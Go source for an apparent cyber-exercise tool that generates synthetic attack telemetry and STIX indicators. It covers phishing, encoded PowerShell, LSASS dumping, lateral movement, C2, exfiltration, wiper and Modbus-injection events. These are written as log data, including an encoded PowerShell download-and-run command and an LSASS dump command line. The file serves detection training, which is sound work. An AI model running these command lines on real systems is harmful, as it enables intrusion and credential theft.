package exercise

import (
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"slices"
	"sort"
	"strconv"
	"strings"
	"time"
	"unicode/utf16"

	"github.com/cyberpact/cyberpact/internal/gen"
)

// doc is one ECS event under construction: nested objects keyed by field
// name. encoding/json writes map keys sorted, so a doc always marshals to
// the same bytes.
type doc map[string]any

// set stores v at a dotted ECS path, creating the objects on the way.
func (d doc) set(path string, v any) doc {
	m := map[string]any(d)
	parts := strings.Split(path, ".")
	for _, p := range parts[:len(parts)-1] {
		next, ok := m[p].(map[string]any)
		if !ok {
			next = map[string]any{}
			m[p] = next
		}
		m = next
	}
	m[parts[len(parts)-1]] = v
	return d
}

// get reads the value at a dotted ECS path.
func (d doc) get(path string) any {
	var cur any = map[string]any(d)
	for _, p := range strings.Split(path, ".") {
		m, ok := cur.(map[string]any)
		if !ok {
			return nil
		}
		cur = m[p]
	}
	return cur
}

func (d doc) str(path string) string {
	s, _ := d.get(path).(string)
	return s
}

// IOC is one observable value of the adversary's infrastructure or tools
// for a step: what a participant that "discovers" the step learns, and
// what the step's indicator tests for. Type and Path name the STIX
// property, e.g. "domain-name" and "value", or "file" and
// "hashes.'SHA-256'".
type IOC struct {
	Type  string `json:"type"`
	Path  string `json:"path"`
	Value string `json:"value"`
}

// Pattern returns the IOC as a STIX pattern comparison.
func (i IOC) Pattern() string {
	return "[" + i.Type + ":" + i.Path + " = '" + strings.ReplaceAll(strings.ReplaceAll(i.Value, `\`, `\\`), "'", `\'`) + "']"
}

// infra is the adversary's side of a step: named values the events use
// and the IOCs among them. It is drawn once per step, from the step's own
// stream, so every target of a step sees the same infrastructure and one
// participant's indicator protects the others.
type infra struct {
	v    map[string]string
	iocs []IOC
}

func (in *infra) ioc(typ, path, key, value string) string {
	in.v[key] = value
	in.iocs = append(in.iocs, IOC{Type: typ, Path: path, Value: value})
	return value
}

// instance is one firing of a step against one participant.
type instance struct {
	r           *rand.Rand
	participant string
	technique   string
}

// Generator makes the synthetic telemetry of one kind of adversary
// activity. Techniques lists the ATT&CK technique ids it can stand for.
type Generator struct {
	Name       string
	Summary    string
	Techniques []string
	infra      func(r *rand.Rand) *infra
	event      func(c *instance, in *infra, i int) doc
}

func (g *Generator) produces(t string) bool { return slices.Contains(g.Techniques, t) }

// Generators returns the telemetry generators, by name.
func Generators() []*Generator {
	out := make([]*Generator, 0, len(generators))
	for _, n := range GeneratorNames() {
		out = append(out, generators[n])
	}
	return out
}

// GeneratorNames returns the names of the generators, sorted.
func GeneratorNames() []string {
	names := make([]string, 0, len(generators))
	for n := range generators {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

// GeneratorTechniques returns every technique id some generator produces.
func GeneratorTechniques() map[string]bool {
	m := map[string]bool{}
	for _, g := range generators {
		for _, t := range g.Techniques {
			m[t] = true
		}
	}
	return m
}

var generators = map[string]*Generator{}

func register(g *Generator) { generators[g.Name] = g }

func newInfra() *infra { return &infra{v: map[string]string{}} }

// base returns the fields every event of a participant's host has.
func base(c *instance, category, action, role string) (doc, string, string) {
	name, ip := host(c.r, c.participant, role)
	d := doc{}
	d.set("event.kind", "event").set("event.category", []any{category}).set("event.action", action)
	d.set("host.name", name).set("host.ip", ip)
	d.set("organization.id", c.participant)
	return d, name, ip
}

// powershellEncode writes a script as PowerShell's -EncodedCommand wants
// it: UTF-16LE, base64.
func powershellEncode(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func init() {
	register(&Generator{
		Name: "phishing-attachment", Summary: "spear-phishing e-mails with a macro document attached",
		Techniques: []string{"T1566.001"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.ioc("email-addr", "value", "sender", pick(r, []string{"invoices", "hr.notice", "compliance", "ceo.office"})+"@"+hostileDomain(r))
			in.v["file"] = pick(r, lureWords) + "-" + strconv.Itoa(2026) + ".docm"
			in.ioc("file", "hashes.'SHA-256'", "sha256", sha256hex(r))
			in.v["subject"] = upperFirst(strings.ReplaceAll(pick(r, lureWords), "-", " ")) + " - action required"
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, _, _ := base(c, "email", "email-delivered", "mail")
			d.set("email.from.address", in.v["sender"]).set("email.to.address", user(c.r)+"@"+orgDomain(c.participant))
			d.set("email.subject", in.v["subject"]).set("email.direction", "inbound")
			d.set("email.attachments", []any{map[string]any{"file": map[string]any{"name": in.v["file"], "hash": map[string]any{"sha256": in.v["sha256"]}}}})
			d.set("file.name", in.v["file"]).set("file.hash.sha256", in.v["sha256"])
			return d
		},
	})
	register(&Generator{
		Name: "malicious-document", Summary: "a macro document starting a payload DLL with rundll32",
		Techniques: []string{"T1204.002"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.v["dll"] = gen.Hex(r, 4) + ".dll"
			in.ioc("file", "hashes.'SHA-256'", "sha256", sha256hex(r))
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, _, _ := base(c, "process", "process-started", "ws")
			path := `C:\Users\` + user(c.r) + `\AppData\Local\Temp\` + in.v["dll"]
			d.set("process.parent.name", "winword.exe").set("process.name", "rundll32.exe")
			d.set("process.command_line", "rundll32.exe "+path+",DllRegisterServer")
			d.set("file.path", path).set("file.name", in.v["dll"]).set("file.hash.sha256", in.v["sha256"])
			return d
		},
	})
	register(&Generator{
		Name: "encoded-powershell", Summary: "PowerShell started with an encoded download-and-run command, then the download",
		Techniques: []string{"T1059.001", "T1027"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			dom := in.ioc("domain-name", "value", "domain", hostileDomain(r))
			url := in.ioc("url", "value", "url", "https://"+dom+"/"+pick(r, []string{"update", "static/js", "api/v2"})+"/"+gen.Hex(r, 4))
			script := "IEX (New-Object Net.WebClient).DownloadString('" + url + "') # cyberpact exercise: simulation only"
			in.ioc("process", "command_line", "cmd", "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "+powershellEncode(script))
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			if i%2 == 1 {
				d, _, ip := base(c, "network", "http-request", "ws")
				d.set("source.ip", ip).set("url.full", in.v["url"]).set("url.domain", in.v["domain"])
				d.set("destination.port", 443).set("process.name", "powershell.exe").set("network.protocol", "https")
				return d
			}
			d, _, _ := base(c, "process", "process-started", "ws")
			d.set("process.parent.name", pick(c.r, []string{"winword.exe", "cmd.exe", "wmiprvse.exe"})).set("process.name", "powershell.exe")
			d.set("process.command_line", in.v["cmd"])
			return d
		},
	})
	register(&Generator{
		Name: "credential-dumping", Summary: "a renamed dump tool reading LSASS memory to a file",
		Techniques: []string{"T1003.001"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.v["tool"] = "svc" + gen.Hex(r, 3) + ".exe"
			in.ioc("file", "hashes.'SHA-256'", "sha256", sha256hex(r))
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, _, _ := base(c, "process", "process-started", "srv")
			d.set("process.name", in.v["tool"]).set("process.hash.sha256", in.v["sha256"])
			d.set("process.command_line", in.v["tool"]+` -accepteula -ma lsass.exe C:\Windows\Temp\`+gen.Hex(c.r, 4)+".dmp")
			d.set("process.target.name", "lsass.exe").set("user.name", "SYSTEM")
			return d
		},
	})
	register(&Generator{
		Name: "lateral-smb", Summary: "a service binary copied to remote ADMIN$ shares and started",
		Techniques: []string{"T1021.002", "T1570"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.v["bin"] = pick(r, []string{"updsvc", "winmgmt32", "perfhost2"}) + ".exe"
			in.ioc("file", "hashes.'SHA-256'", "sha256", sha256hex(r))
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, name, ip := base(c, "file", "file-created-over-smb", "srv")
			_, src := host(c.r, c.participant, "ws")
			d.set("source.ip", src).set("destination.ip", ip).set("destination.port", 445).set("network.protocol", "smb")
			d.set("file.path", `\\`+name+`\ADMIN$\`+in.v["bin"]).set("file.name", in.v["bin"]).set("file.hash.sha256", in.v["sha256"])
			d.set("user.name", "adm-"+user(c.r))
			return d
		},
	})
	register(&Generator{
		Name: "lateral-rdp", Summary: "remote desktop logons relayed from the adversary's tunnel end point",
		Techniques: []string{"T1021.001"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.ioc("ipv4-addr", "value", "relay", hostileIP(r))
			in.v["account"] = "svc-" + pick(r, []string{"backup", "scan", "deploy"})
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, _, ip := base(c, "authentication", "logon-remote-interactive", "srv")
			d.set("source.ip", in.v["relay"]).set("destination.ip", ip).set("destination.port", 3389)
			d.set("network.protocol", "rdp").set("user.name", in.v["account"]).set("event.outcome", "success")
			return d
		},
	})
	register(&Generator{
		Name: "c2-dns", Summary: "command-and-control beacons in DNS TXT queries under the adversary's domain (match with subdomains)",
		Techniques: []string{"T1071.004"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.ioc("domain-name", "value", "domain", hostileDomain(r))
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, _, ip := base(c, "network", "dns-query", "ws")
			q := in.v["domain"]
			if i%3 != 0 {
				q = gen.Hex(c.r, 8) + "." + q
			}
			d.set("source.ip", ip).set("destination.ip", internalNet+"53").set("destination.port", 53)
			d.set("dns.question.name", q).set("dns.question.type", "TXT").set("network.protocol", "dns")
			return d
		},
	})
	register(&Generator{
		Name: "c2-https", Summary: "periodic HTTPS beacons to the adversary's server",
		Techniques: []string{"T1071.001", "T1573.002"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.ioc("domain-name", "value", "domain", hostileDomain(r))
			in.ioc("ipv4-addr", "value", "ip", hostileIP(r))
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, _, ip := base(c, "network", "connection", "ws")
			d.set("source.ip", ip).set("destination.ip", in.v["ip"]).set("destination.port", 443)
			d.set("tls.client.server_name", in.v["domain"]).set("network.protocol", "tls")
			d.set("source.bytes", 300+c.r.IntN(900)).set("destination.bytes", 200+c.r.IntN(4000))
			return d
		},
	})
	register(&Generator{
		Name: "data-staging", Summary: "a renamed archiver packing file-share data into a password-protected archive",
		Techniques: []string{"T1074.001", "T1560.001"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.v["tool"] = gen.Hex(r, 2) + ".exe"
			in.ioc("file", "hashes.'SHA-256'", "sha256", sha256hex(r))
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, _, _ := base(c, "process", "process-started", "srv")
			archive := `C:\ProgramData\` + gen.Hex(c.r, 3) + ".7z"
			d.set("process.name", in.v["tool"]).set("process.hash.sha256", in.v["sha256"])
			d.set("process.command_line", in.v["tool"]+` a -mhe=on -p`+gen.Hex(c.r, 4)+" "+archive+` \\fs-1.`+orgDomain(c.participant)+`\`+pick(c.r, []string{"finance", "legal", "trading", "newsroom", "engineering"}))
			d.set("file.path", archive)
			return d
		},
	})
	register(&Generator{
		Name: "exfiltration", Summary: "large uploads of staged archives to the adversary's server",
		Techniques: []string{"T1048.003", "T1041", "T1567.002"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.ioc("domain-name", "value", "domain", hostileDomain(r))
			in.ioc("ipv4-addr", "value", "ip", hostileIP(r))
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, _, ip := base(c, "network", "http-upload", "srv")
			d.set("source.ip", ip).set("destination.ip", in.v["ip"]).set("destination.domain", in.v["domain"]).set("destination.port", 80)
			d.set("url.full", "http://"+in.v["domain"]+"/upload/"+gen.Hex(c.r, 4)).set("http.request.method", "POST")
			d.set("source.bytes", (20+c.r.IntN(200))<<20).set("network.protocol", "http")
			return d
		},
	})
	register(&Generator{
		Name: "wiper", Summary: "a wiper overwriting files and the boot record, and deleting shadow copies",
		Techniques: []string{"T1485", "T1561.002", "T1490"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.v["tool"] = pick(r, []string{"diskutil", "cleanmgr2", "defragsvc"}) + ".exe"
			in.ioc("file", "hashes.'SHA-256'", "sha256", sha256hex(r))
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, _, _ := base(c, "file", pick(c.r, []string{"file-overwritten", "raw-disk-write", "shadow-copy-deleted"}), pick(c.r, []string{"ws", "srv"}))
			d.set("process.name", in.v["tool"]).set("process.hash.sha256", in.v["sha256"])
			d.set("file.path", pick(c.r, []string{`\\.\PhysicalDrive0`, `C:\Users\Public\Documents\` + gen.Hex(c.r, 3) + ".docx", `C:\Windows\System32\config\SOFTWARE`}))
			return d
		},
	})
	register(&Generator{
		Name: "ics-command-injection", Summary: "unauthorised Modbus write commands to controllers from a rogue host",
		Techniques: []string{"T0855", "T0831", "T0836"},
		infra: func(r *rand.Rand) *infra {
			in := newInfra()
			in.ioc("ipv4-addr", "value", "rogue", hostileIP(r))
			return in
		},
		event: func(c *instance, in *infra, i int) doc {
			d, _, ip := base(c, "network", "modbus-write", "plc")
			d.set("source.ip", in.v["rogue"]).set("destination.ip", ip).set("destination.port", 502).set("network.protocol", "modbus")
			d.set("x_ics.function", pick(c.r, []string{"write_single_register", "write_multiple_registers", "write_single_coil"}))
			d.set("x_ics.register", 40001+c.r.IntN(200)).set("x_ics.value", c.r.IntN(65536))
			return d
		},
	})
}

// benignEvent returns one event of a participant's ordinary traffic: name
// look-ups, web sessions, process starts, mail and logons, some of them
// resembling the adversary's (PowerShell, remote logons) so that false
// positives can be measured.
func benignEvent(r *rand.Rand, participant string) doc {
	c := &instance{r: r, participant: participant}
	switch r.IntN(6) {
	case 0:
		d, _, ip := base(c, "network", "dns-query", "ws")
		src := any(ip)
		if r.IntN(4) == 0 {
			src = fmt.Sprintf("2001:db8:%x::%x", 1+r.IntN(0xfff), 1+r.IntN(0xffff))
		}
		return d.set("source.ip", src).set("destination.ip", internalNet+"53").set("destination.port", 53).set("dns.question.name", pick(r, benignSites)).set("dns.question.type", "A")
	case 1:
		d, _, ip := base(c, "network", "connection", "ws")
		site := pick(r, benignSites)
		return d.set("source.ip", ip).set("destination.ip", benignIP(r)).set("destination.port", 443).set("tls.client.server_name", site).set("source.bytes", 500+r.IntN(20000))
	case 2:
		d, _, _ := base(c, "process", "process-started", "ws")
		p := pick(r, benignProcs)
		cl := p
		if p == "powershell.exe" {
			cl = `powershell.exe -NoProfile -File C:\Scripts\` + pick(r, []string{"inventory", "backup-check", "patch-report"}) + ".ps1"
		}
		return d.set("process.name", p).set("process.command_line", cl)
	case 3:
		d, _, _ := base(c, "email", "email-delivered", "mail")
		return d.set("email.from.address", pick(r, []string{"newsletter@news.example", "noreply@partner-portal.example", "payroll@payroll-service.example"})).
			set("email.to.address", user(r)+"@"+orgDomain(participant)).set("email.subject", "Weekly update")
	case 4:
		d, _, ip := base(c, "authentication", "logon-remote-interactive", "srv")
		_, src := host(r, participant, "ws")
		return d.set("source.ip", src).set("destination.ip", ip).set("destination.port", 3389).set("user.name", "adm-"+user(r)).set("event.outcome", "success")
	default:
		d, _, ip := base(c, "network", "http-request", "ws")
		site := pick(r, benignSites)
		return d.set("source.ip", ip).set("url.full", "https://"+site+"/"+pick(r, []string{"index.html", "api/quotes", "docs/"})).set("url.domain", site).set("destination.port", 443)
	}
}

// jittered returns the scenario offsets of an instance's events: Count
// events Interval apart, each moved by up to Jitter of the interval.
func jittered(r *rand.Rand, at time.Duration, p Params) []time.Duration {
	out := make([]time.Duration, p.Count)
	for i := range out {
		t := at + time.Duration(i)*p.Interval
		if i > 0 && p.Jitter > 0 {
			t += time.Duration((r.Float64()*2 - 1) * p.Jitter * float64(p.Interval) / 2)
		}
		out[i] = max(t, at).Truncate(time.Millisecond)
	}
	slices.Sort(out)
	return out
}
